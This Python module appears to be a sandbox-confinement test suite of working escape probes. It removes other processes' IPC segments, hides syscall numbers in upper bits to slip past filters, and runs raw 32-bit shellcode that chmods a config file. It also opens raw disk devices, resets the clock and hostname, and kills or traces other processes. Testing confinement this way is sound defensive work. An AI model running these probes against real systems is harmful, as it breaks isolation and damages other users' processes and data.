"""Attacks by what has a number and no name: segments, registers, devices, ports of netlink, groups, and the clock."""

from __future__ import annotations

import ctypes
import fcntl
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import time
from pathlib import Path

from confine_attack_kit import (
    BASE,
    CONF,
    LIBC,
    ODDEST,
    READERS,
    SIZE,
    VICTIM,
    WS,
    W,
    call,
    check,
    entered,
    executor,
    keep,
    took,
)  # fmt: skip

oddest, reader = entered(ODDEST), entered(READERS)

SEGMENT, SEMAPHORES, QUEUE = (int(one) for one in os.environ.get("SEGMENTS", "-1 -1 -1").split())
"""What the victim made by number; whoever is of the same user may take it away."""

HIGH = 1 << 32
"""A bit that the kernel drops from what it takes as 32 of them."""


# ── numbers ───────────────────────────────────────────────────────────────────────────────────────────────────────────


@oddest
def segments_of_the_victim_changed() -> object:
    """A semaphore set to nothing lets everybody wait for it; a mode opens a segment to all."""
    state = ctypes.create_string_buffer(256)
    return [
        what
        for what, attempt in {
            "semaphore": lambda: check(LIBC.semctl(SEMAPHORES, 0, 16, 0)),
            "looked at memory": lambda: check(LIBC.shmctl(SEGMENT, 2, state)),
            "looked at messages": lambda: check(LIBC.msgctl(QUEUE, 2, state)),
        }.items()
        if took(attempt)
    ]


@oddest
def segments_of_the_victim_taken_away() -> object:
    """Nothing has to be made or attached for it."""
    return [
        what
        for what, attempt in {
            "memory": lambda: check(LIBC.shmctl(SEGMENT, 0, None)),
            "semaphores": lambda: check(LIBC.semctl(SEMAPHORES, 0, 0)),
            "messages": lambda: check(LIBC.msgctl(QUEUE, 0, None)),
        }.items()
        if took(attempt)
    ]


@oddest
def numbers_with_more_in_them() -> object:
    """A call by a number whose upper half is not looked at, where the filter compared it with all of it."""
    path = CONF.encode()
    return [
        number
        for number in (90 + HIGH, 90 - HIGH, 90 + (1 << 63), 82 + HIGH, 87 + HIGH)
        if took(lambda one=number: call(ctypes.c_long(one), path, f"{WS}/moved".encode()))
    ]


@oddest
def arguments_with_more_in_them() -> object:
    """The same of flags, commands and processes."""
    with open(CONF, "rb") as file:
        fd, flags, seven = file.fileno(), ctypes.create_string_buffer(8), ctypes.c_long(7 + HIGH)
        more = [ctypes.c_long(one + HIGH) for one in (0x40086602, 0x40087602, 1024, 1038, os.O_RDWR)]
        hit = [took(lambda one=one: call(16, fd, one, flags)) for one in more[:2]]
        hit += [took(lambda one=one: call(72, fd, one, 0)) for one in more[2:4]]
        hit += [took(lambda: call(257, -100, CONF.encode(), more[4], 0))]
        hit += [took(lambda one=pid: call(62, ctypes.c_long(one + HIGH), 0)) for pid in (VICTIM, *executor())]
        hit += [took(lambda: call(302, ctypes.c_long(VICTIM + HIGH), seven, None, flags))]
        return any(hit) or took(lambda: call(41, ctypes.c_long(2 + HIGH), ctypes.c_long(2 + HIGH), 0))


@oddest
def code_of_32_bits_by_a_segment() -> object:
    """A far return into the segment of 32 bits, where the same gate leads to other calls: chmod is fifteen there."""
    if os.uname().machine != "x86_64":
        return False
    before = os.stat(CONF).st_mode
    pid = os.fork()
    if pid == 0:
        page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
        at = ctypes.addressof(ctypes.c_char.from_buffer(page))
        far = bytes.fromhex("b80f000000 bb") + struct.pack("<I", at + 2048) + bytes.fromhex("b9c0010000 cd80 f4")
        # push 0x23; push far; lretq
        near = bytes.fromhex("6a23 68") + struct.pack("<I", at + 1024) + bytes.fromhex("48cb")
        page[: len(near)], page[1024 : 1024 + len(far)] = near, far
        page[2048 : 2048 + len(CONF) + 1] = CONF.encode() + b"\0"
        ctypes.CFUNCTYPE(None)(at)()
        os._exit(1)
    os.waitpid(pid, 0)
    return os.stat(CONF).st_mode != before


# ── ways that only some kernels have ──────────────────────────────────────────────────────────────────────────────────


@oddest
def protocol_put_above_tcp() -> object:
    """A socket that becomes another kind of socket, or is no longer asked about, after it was made."""
    end = socket.socket()
    return [name for name in ("smc", "mptcp", "tls") if took(lambda one=name: end.setsockopt(6, 31, one.encode()))]


@oddest
def devices_opened() -> object:
    """Each of them is a kernel of its own: files, machines, networks, faults, keys that are typed."""
    names = (
        "fuse", "kvm", "vhost-vsock", "vsock", "net/tun", "userfaultfd", "uinput", "loop-control", "mapper/control",
        "kmsg", "mem", "port", "ptmx", "pts/ptmx", "tty", "console", "snapshot", "autofs", "cuse", "dma_heap/system",
        "nvidiactl", "dri/card0", "sgx_enclave", "vfio/vfio", "btrfs-control", "rfkill", "hpet", "shm", "mqueue",
    )  # fmt: skip
    return [name for name in names if took(lambda one=name: os.open(f"/dev/{one}", os.O_RDONLY | os.O_NONBLOCK))]


@oddest
def device_of_the_disk_made() -> object:
    """By its number, in the workspace: below every file."""
    disk = os.stat(W).st_dev
    name = f"{WS}/disk"
    os.mknod(name, stat.S_IFBLK | 0o600, disk)
    return len(os.pread(os.open(name, os.O_RDONLY), 512, 0)) == 512


@oddest
def clock_set_back() -> object:
    """Windows of orders, and dates of files that are written now."""
    now = time.time()
    hit = [
        took(lambda: time.clock_settime(time.CLOCK_REALTIME, now - 1)),
        took(lambda: check(LIBC.settimeofday(struct.pack("=qq", int(now) - 1, 0), None))),
        took(lambda: check(LIBC.adjtimex(struct.pack("=Iiq", 0x8000, 0, 1).ljust(256, b"\0")))),
    ]
    return any(hit)


@oddest
def host_made_another() -> object:
    """Its name, its ports, its memory, its log."""
    return [
        what
        for what, attempt in {
            "name": lambda: socket.sethostname("guardrail"),
            "domain": lambda: check(LIBC.setdomainname(b"guardrail", 9)),
            "log": lambda: check(LIBC.klogctl(5, None, 0)),
            "swap": lambda: check(LIBC.swapoff(b"/dev/vda2")),
            "ports": lambda: call(172, 3),
            "terminal": lambda: call(153),
            "limits": lambda: resource.setrlimit(resource.RLIMIT_MEMLOCK, (1 << 50, 1 << 50)),
        }.items()
        if took(attempt)
    ]


# ── others, by their numbers ──────────────────────────────────────────────────────────────────────────────────────────


@oddest
def netlink_to_somebody_else() -> object:
    """Ports of netlink are numbers that anybody may choose, and the kernel's own answers come from one of them."""
    end = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    other = int(os.environ.get("NETLINK", "0")) or VICTIM
    return end.sendto(struct.pack("=IHHII", 16, 3, 0, 0, 0), (other, 0)) > 0


@oddest
def parent_made_a_tracer() -> object:
    """Whoever started this is told of everything that it does, and has to let each of it go on."""
    return call(101, 0, 0, 0, 0) == 0


@oddest
def aimed_at_others() -> object:
    """A timer that is somebody else's thread's, a group that is somebody else's, and a death that is told to them."""
    timer, number = ctypes.c_void_p(), signal.SIGKILL
    hit = []
    for pid in (VICTIM, *executor()):
        event = struct.pack("=qiii", 0, number, 4, pid).ljust(64, b"\0")
        hit += [took(lambda one=event: call(222, 1, one, ctypes.byref(timer)))]
        hit += [took(lambda one=pid: os.setpgid(0, os.getpgid(one)))]
        hit += [took(lambda one=pid: os.setpgid(one, 0))]
    return any(hit)


@oddest
def model_run_by_its_descriptor() -> object:
    """By a name that is none, by the oldest call for libraries, and by what a shell says of it."""
    fd = os.open(W, os.O_PATH)
    empty = (ctypes.c_char_p * 1)()
    pid = os.fork()
    if pid == 0:
        call(322, fd, b"", empty, empty, 0x1000)
        os._exit(0)
    ran = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
    hit = ran or took(lambda: call(134, W.encode()))
    shown = subprocess.run(["/bin/sh", "-c", f". {W}"], capture_output=True, check=False).stderr
    return hit or (len(shown) > SIZE and keep(shown))


# ── a reader ──────────────────────────────────────────────────────────────────────────────────────────────────────────


@reader
def reader_watches_by_fcntl() -> object:
    """The oldest way to hear who opens them: on a descriptor of the directory, by a signal."""
    fd = os.open(os.path.dirname(W), os.O_RDONLY)
    fcntl.fcntl(fd, 1026, 0x80000000 - 0x100000000 | 0x3F)
    return Path(BASE).exists()
